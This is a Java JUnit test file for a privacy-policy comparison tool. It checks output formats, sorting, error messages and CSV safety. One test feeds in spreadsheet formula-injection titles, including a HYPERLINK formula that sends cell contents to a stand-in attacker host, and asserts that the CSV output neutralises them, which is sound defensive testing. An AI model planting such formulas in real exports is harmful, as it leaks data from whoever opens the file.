package dev.policyscan.scan;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.policyscan.PolicyAnalyzer;
import dev.policyscan.Policyscan;
import dev.policyscan.cli.Main;
import dev.policyscan.document.DocumentReader;
import dev.policyscan.facts.Category;
import dev.policyscan.report.ComparisonColumn;
import dev.policyscan.report.ComparisonRow;
import dev.policyscan.report.JsonReport;
import dev.policyscan.report.PolicyReport;
import dev.policyscan.report.ReportSchema;
import dev.policyscan.source.Source;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Comparisons of the samples and of made-up policies.
 *
 * <p>After an intended change, {@code -Dpolicyscan.golden=update} rewrites the comparisons of the samples; read the difference.
 */
class ComparisonTest {
    private static final Path GOLDEN = Path.of("src", "test", "resources", "golden-comparison");
    private static final boolean UPDATE = "update".equals(System.getProperty("policyscan.golden"));
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final PolicyAnalyzer ANALYZER = Policyscan.analyzer();
    private static final Schema SCHEMA =
            SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12).getSchema(ReportSchema.COMPARISON.text(), InputFormat.JSON);

    @TempDir
    private Path folder;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();

    private int run(String... args) {
        return with("", args);
    }

    private int with(String stdin, String... args) {
        return new Main(new ByteArrayInputStream(stdin.getBytes(UTF_8)), out, err, Map.of(), false).run(args);
    }

    private String compare(String... args) {
        out.reset();
        List<String> all = new ArrayList<>(List.of("compare"));
        all.addAll(List.of(args));
        assertEquals(0, run(all.toArray(String[]::new)), err.toString(UTF_8));
        return out.toString(UTF_8);
    }

    @BeforeEach
    void makePolicies() throws IOException {
        Files.writeString(folder.resolve("seller.md"), "# Privacy Policy\n\nLast updated: May 2, 2021\n\nWe collect your name. We sell personal information to data brokers.\n");
        Files.writeString(folder.resolve("denier.md"), "# Privacy Policy\n\nLast updated: May 2, 2024\n\nWe collect your name. We do not sell personal information.\n");
        Files.writeString(folder.resolve("other.md"), "# Pancakes\n\nMix flour with milk and eggs. Bake in butter until brown.\n");
    }

    @ParameterizedTest
    @CsvSource({"markdown, md", "csv, csv", "json, json", "text, txt"})
    void ofTheSamples(String format, String extension) throws IOException {
        String comparison = compare("-f", format, "samples").replaceAll("\"version\":\"[^\"]+\"", "\"version\":\"X\"");
        Path golden = GOLDEN.resolve("samples." + extension);
        if (UPDATE) {
            Files.createDirectories(GOLDEN);
            Files.writeString(golden, comparison);
        }
        assertEquals(Files.readString(golden), comparison, golden + "; rewrite it with -Dpolicyscan.golden=update if the change is meant");
    }

    @Test
    void jsonHasTheQuoteBehindEachCell() throws IOException {
        String json = compare("-f", "json", "samples");
        assertEquals(List.of(), SCHEMA.validate(json, InputFormat.JSON));
        int quotes = 0;
        for (JsonNode policy : JSON.readTree(json).path("policies")) {
            String text = new DocumentReader().read(Source.of(Path.of(policy.path("source").asText()))).text();
            for (JsonNode fact : policy.path("facts")) {
                JsonNode evidence = fact.path("evidence");
                boolean said = fact.has("values") ? !fact.path("values").isEmpty() : !List.of("unstated", "null").contains(fact.path("value").asText());
                assertEquals(said, !evidence.isNull(), fact.toString());
                if (said) {
                    quotes++;
                    assertEquals(evidence.path("quote").asText(), text.substring(evidence.path("start").asInt(), evidence.path("end").asInt()));
                }
            }
        }
        assertTrue(quotes > 60, quotes + " quotes");
    }

    @Test
    void csvIsReadByALibrary() throws IOException {
        try (CSVParser csv = CSVParser.parse(new StringReader(compare("-f", "csv", "samples")), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            assertEquals(Arrays.stream(ComparisonColumn.values()).map(ComparisonColumn::term).toList(), csv.getHeaderNames());
            for (CSVRecord record : csv) {
                PolicyReport report = ANALYZER.analyze(Source.of(Path.of(record.get("source"))));
                assertEquals(report.facts().sale().stance().term(), record.get("sale"));
                assertEquals(report.facts().categories().get(Category.E).collected().term(), record.get("E"));
                assertEquals(String.join(" ", report.facts().retention().durations()), record.get("retention_durations"));
                assertEquals(String.valueOf(report.document().company()), record.get("company"));
            }
            assertTrue(csv.getRecordNumber() >= 6);
        }
    }

    @Test
    void csvRunsNoFormula() throws IOException {
        String formula = "=HYPERLINK(\"https://evil.example?\"&A1)";
        for (String title : List.of(formula, "+1+1", "-2", "@SUM(A1)", "\u200b=1", "\u202e=1", "＝1")) {
            Files.writeString(folder.resolve("=x.md"), "# " + title + "\n\n## Privacy Policy\n\nWe collect your name. We do not sell personal information.\n");
            try (CSVParser csv = CSVParser.parse(new StringReader(compare("-f", "csv", folder.resolve("=x.md").toString())), CSVFormat.RFC4180)) {
                for (CSVRecord record : csv) {
                    for (String cell : record) {
                        assertTrue(cell.isEmpty() || "=+-@＝\t\r".indexOf(cell.charAt(0)) < 0, cell);
                    }
                }
            }
        }
    }

    @Test
    void markdownShowsFootnotes() {
        String markdown = compare("-f", "markdown", "samples");
        int notes = 0;
        while (markdown.contains("[^" + (notes + 1) + "]: ")) {
            notes++;
            assertTrue(markdown.contains("[^" + notes + "] |"), "nothing refers to note " + notes);
        }
        assertTrue(notes > 40, notes + " notes");
        String html = HtmlRenderer.builder().extensions(List.of(TablesExtension.create())).build()
                .render(Parser.builder().extensions(List.of(TablesExtension.create())).build().parse(markdown));
        assertEquals(2, html.split("<table>", -1).length - 1, html);
    }

    @Test
    void aRowIsTheSameFromAPolicyAndFromItsReport() throws IOException {
        try (Stream<Path> samples = Files.list(Path.of("samples"))) {
            for (Path sample : samples.filter(f -> !f.toString().endsWith(".json")).toList()) {
                PolicyReport report = ANALYZER.analyze(Source.of(sample));
                ComparisonRow row = ComparisonRow.of("x", report);
                assertEquals(row, ComparisonRow.ofReport("x", JSON.readTree(new JsonReport().render(report))));
                try (RowFile file = RowFile.create(folder.resolve("rows"))) {
                    long place = file.append(new RowFile.Entry("0".repeat(64), "r", new short[Likeness.PLACES], row));
                    assertEquals(row, file.entry(place).row());
                    assertEquals("x", file.id(place));
                }
            }
        }
    }

    @Test
    void readsPoliciesReportsAndScans() throws IOException {
        String first = compare("-f", "json", "--sort", "id", "samples");
        assertEquals(0, run("scan", "-q", "samples", "-o", folder.resolve("out").toString()), err.toString(UTF_8));
        assertEquals(first, compare("-f", "json", "--sort", "id", folder.resolve("out").toString()));
        List<String> reports = new ArrayList<>(List.of("-f", "json", "--sort", "id"));
        try (Stream<Path> files = Files.list(folder.resolve("out/reports"))) {
            files.map(Path::toString).sorted().forEach(reports::add);
        }
        assertEquals(first, compare(reports.toArray(String[]::new)));
    }

    @Test
    void whatStandsOutComesFirst() {
        String[] lines = compare("-f", "csv", "--columns", "sale,stands_out", folder.toString()).split("\n");
        assertEquals("seller,sells,sells silent_on_retention silent_on_rights", lines[1]);
        assertEquals("denier,does_not_sell,silent_on_retention silent_on_rights", lines[2]);
        assertEquals("other,unstated,not_read", lines[3]);
    }

    @ParameterizedTest
    @CsvSource({
        "'sale', seller denier", "'-sale', denier seller", "'last_updated', seller denier", "'-last_updated', denier seller", "'id', denier seller",
        "'-id', seller denier", "'input', denier seller", "'A,-id', seller denier"
    })
    void sorts(String sort, String ids) {
        String csv = compare("-f", "csv", "--columns", "sale", "--where", "is_privacy_policy=yes", "--sort", sort, folder.toString());
        assertEquals(List.of(ids.split(" ")), csv.lines().skip(1).map(line -> line.substring(0, line.indexOf(','))).toList());
    }

    @Test
    void readsStandardInput() throws IOException {
        assertEquals(0, with(Files.readString(folder.resolve("seller.md")), "compare", "-f", "csv", "--columns", "sale", "-"));
        assertEquals("id,sale\nstdin,sells\n", out.toString(UTF_8));
    }

    @Test
    void gates() {
        assertEquals(1, run("compare", "--fail-on", "sale=sells", folder.toString()));
        assertEquals("policyscan: --fail-on sale=sells holds of seller\n", err.toString(UTF_8));
        err.reset();
        assertEquals(0, run("compare", "--where", "sale=does_not_sell", "--fail-on", "sale=sells", folder.toString()));
        assertEquals(3, run("compare", folder.toString(), folder.resolve("missing.md").toString()));
        assertEquals("policyscan: " + folder.resolve("missing.md") + ": no such file; check the name\n", err.toString(UTF_8));
    }

    @ParameterizedTest
    @CsvSource({
        "--where sail=sells, --where: in", "--sort nothing, --sort: there is no column nothing", "--columns x, --columns: there is no column x",
        "--fail-on (, --fail-on: in", "-f html, invalid", "--include [, the pattern [ has a [ without its ]"
    })
    void wrongUsageIsOneLine(String options, String message) {
        List<String> args = new ArrayList<>(List.of("compare"));
        args.addAll(List.of(options.split(" ")));
        args.add(folder.toString());
        assertEquals(2, run(args.toArray(String[]::new)));
        assertTrue(err.toString(UTF_8).startsWith("policyscan: " + message), err.toString(UTF_8));
        assertEquals(1, err.toString(UTF_8).lines().count());
    }

    @ParameterizedTest
    @CsvSource({
        "-q, Missing required option", "-o {} --jobs 0, --jobs is a number from 1 to 1024", "-o {} --jobs x, invalid value", "-o {} - -, standard input (-)",
        "-o {} --where x=, --where: in"
    })
    void wrongUsageOfScanIsOneLine(String options, String message) {
        List<String> args = new ArrayList<>(List.of("scan", folder.toString()));
        args.addAll(List.of(options.replace("{}", folder.resolve("out").toString()).split(" ")));
        assertEquals(2, run(args.toArray(String[]::new)));
        assertTrue(err.toString(UTF_8).toLowerCase(Locale.ROOT).startsWith("policyscan: " + message.toLowerCase(Locale.ROOT)), err.toString(UTF_8));
        assertEquals(1, err.toString(UTF_8).lines().count());
        assertTrue(Files.notExists(folder.resolve("out")));
    }

    @Test
    void scanTellsOfFailures() throws IOException {
        Files.writeString(folder.resolve("empty.md"), "");
        assertEquals(3, run("scan", folder.toString(), "-o", folder.resolve("out").toString()));
        String[] said = err.toString(UTF_8).split("\n");
        assertEquals("policyscan: " + folder.resolve("empty.md") + ": is empty; there is nothing to read", said[0]);
        assertTrue(said[1].startsWith("3 reports, 1 failed, in "), said[1]);
        err.reset();
        assertEquals(3, run("scan", "-q", folder.toString(), "-o", folder.resolve("out").toString()));
        assertEquals("", err.toString(UTF_8));
        assertEquals(2, run("scan", "--include", "*.md", "-q", folder.toString(), "-o", folder.resolve("out").toString(), "--where", "(sale"));
        assertEquals("", out.toString(UTF_8));
    }

    @Test
    void writesToAFile() throws IOException {
        Path file = folder.resolve("c.md");
        assertEquals(0, run("compare", "-f", "markdown", "-o", file.toString(), folder.resolve("seller.md").toString()));
        assertTrue(Files.readString(file).startsWith("# Privacy policies side by side\n"));
        assertEquals("", out.toString(UTF_8));
    }

    @Test
    void readsDurations() {
        assertEquals(730, ComparisonColumn.days("P2Y"));
        assertEquals(730, ComparisonColumn.days("P24M"), 0.5);
        assertEquals(0.5, ComparisonColumn.days("PT12H"));
        assertEquals(Double.NaN, ComparisonColumn.days("P"));
        assertEquals(Double.NaN, ComparisonColumn.days("2Y"));
        assertEquals(Double.NaN, ComparisonColumn.days("P2"));
        assertNull(ComparisonColumn.named("nothing"));
    }
}
